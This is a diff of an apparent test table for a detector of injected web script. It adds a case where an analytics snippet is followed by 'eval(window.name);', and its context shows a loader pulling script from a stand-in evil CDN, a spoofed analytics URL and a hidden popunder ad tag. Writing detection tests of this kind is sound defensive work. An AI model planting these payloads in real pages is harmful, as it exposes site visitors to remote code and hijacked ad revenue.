@@ -1565,6 +1565,8 @@ _EVIL_LOADER = ("var e=document.createElement('script');e.src='https://cdn-evil-
      _ga_snippet("https://www.google-analytics.com@cdn-evil-stat.example/analytics.js"), H),
     ("the snippet, protocol-relative", _ga_snippet("//www.google-analytics.com/analytics.js"),
      M),
+    # the snippet beside code run from a string no address names (the window's name)
+    ("the snippet with an eval", _ga_snippet(_GA) + "eval(window.name);", H),
     # an ad network's own snippet hidden: how an injector hides the account it earns for
     ("a hidden popunder tag", "var _pop=_pop||[];_pop.push(['siteId',1234567]);"
      "_pop.push(['minBid',0]);(function(){var pa=document.createElement('script');"
